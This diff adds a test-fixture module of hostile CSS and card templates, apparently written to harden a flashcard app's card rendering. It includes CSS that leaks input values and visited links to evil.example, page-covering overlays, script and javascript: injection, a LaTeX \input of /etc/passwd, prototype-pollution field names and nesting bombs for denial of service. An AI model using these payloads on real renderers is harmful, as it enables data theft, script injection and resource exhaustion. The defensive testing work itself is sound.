@@ -1,0 +1,48 @@
+/** CSS that loads nothing, and tries to cover the app, to hide its card, to tell or to take all time. */
+export const HOSTILE_LOOKS: readonly (readonly [what: string, css: string])[] = [
+  ['a cover over everything', '.card{position:fixed;inset:0;z-index:2147483647;background:red}'],
+  ['a cover that is larger than the window', 'body::before{content:"";position:fixed;inset:-9999px;z-index:9e9}'],
+  ['the frame moved away', 'html{transform:translate(-9999px);position:fixed;width:99999px}'],
+  ['a height without end', '.card{height:1e9px} #qa{min-height:100000vh}'],
+  ['a width without end', '.card{width:1e9px;white-space:nowrap}'],
+  ['nothing is to be seen', 'html,body,#qa{display:none!important;opacity:0;visibility:hidden}'],
+  ['what holds what tells', 'body:has(input[value^="a"]){background:url(https://evil.example/has-a)}'],
+  ['a root that tells', ':root:has(a:visited) .card{background:image-set(url(//evil.example/v) 1x)}'],
+  ['an animation that does not end', '@keyframes k{to{transform:rotate(1turn);inset:0}} *{animation:k 1ms infinite}'],
+  ['a change that calls', '.card{transition:all 1ms;animation:canary 1ms} @keyframes canary{from{top:0}}'],
+  ['a pointer that is not there', '*{cursor:none!important;pointer-events:none!important;user-select:none}'],
+  ['filters upon filters', `*{filter:${'blur(50px) '.repeat(60)}}`],
+  ['counters that grow', '*{counter-increment:c 999999999}*::after{content:counter(c)}'],
+  ['the app by its own names', ':host,:root,::part(x),main,nav,button{display:none!important}'],
+  ['the parent by its address', '@scope(html){:scope{background:url("../../api/library.list")}}'],
+  ['a layer and a container', '@layer a{@container (width>0){*{background:url(https://evil.example/c)}}}'],
+];
+
+const DEPTH = 5000;
+/** Templates that mean harm. `says`: what the app says below the card; absent: nothing is wrong with them. */
+export const HOSTILE_TEMPLATES: readonly (readonly [what: string, front: string, back: string, says?: RegExp])[] = [
+  ['a script', '<script>canary()</script>{{Front}}', '{{Back}}', /a script/],
+  ['a script made of fields', '<scr{{Front}}ipt>canary()</script>', '{{Back}}'],
+  ['a handler made of a field', '<img src={{Front}} onerror={{Front}}canary()>', '{{Back}}', /a script/],
+  ['the front within the front', '{{FrontSide}}{{Front}}{{FrontSide}}', '{{Back}}'],
+  ['the front a thousand times', '{{Front}}', '{{FrontSide}}'.repeat(1000)],
+  ['the back within the back', '{{Front}}', '{{BackSide}}{{Card 1}}{{Back}}', /BackSide/],
+  ['a filter upon filters', `{{${'text:'.repeat(DEPTH)}Front}}`, '{{Back}}'],
+  ['filters of hints', `{{${'hint:'.repeat(DEPTH)}Front}}`, '{{Back}}'],
+  ['ruby within ruby', `{{${'furigana:'.repeat(DEPTH)}Front}}`, '{{Back}}'],
+  ['a filter nobody knows', '{{evil:Front}}', '{{Back}}', /evil/],
+  ['a field nobody has', '{{__proto__}}{{constructor}}{{Front}}', '{{Back}}', /__proto__/],
+  ['parts within parts', '{{#Front}}'.repeat(DEPTH) + 'x' + '{{/Front}}'.repeat(DEPTH), '{{Back}}', /./],
+  ['a part without end', '{{#Front}}{{Front}}', '{{Back}}', /Front/],
+  ['an end without a part', '{{/Front}}{{Front}}', '{{Back}}', /Front/],
+  ['a part that crosses another', '{{#Front}}{{#Back}}x{{/Front}}{{/Back}}', '{{Back}}', /./],
+  ['brackets without end', '{{'.repeat(DEPTH), '{{Back}}', /./],
+  ['other brackets', '{{=<% %>=}}<%Front%>{{Front}}', '{{Back}}', /./],
+  ['gaps within gaps', `{{cloze:Front}}${'{{c1::'.repeat(500)}`, '{{Back}}', /./],
+  ['speech that asks a site', '{{tts en_US voices=https://evil.example/:Front}}', '{{Back}}'],
+  ['an answer to be typed, a thousand times', '{{type:Front}}'.repeat(1000), '{{Back}}'],
+  ['a formula that includes a file', '[latex]\\input{/etc/passwd}[/latex]{{Front}}', '{{Back}}', /./],
+  ['a formula that grows', '\\(\\def\\a{\\a\\a}\\a\\){{Front}}', '{{Back}}', /./],
+  ['a formula with a page', '\\(\\href{javascript:canary()}{x}\\htmlData{a=b}{y}\\){{Front}}', '{{Back}}'],
+  ['sounds of other places', '[sound:https://evil.example/a.mp3][sound:../../a.mp3]{{Front}}', '{{Back}}', /a\.mp3/],
+];
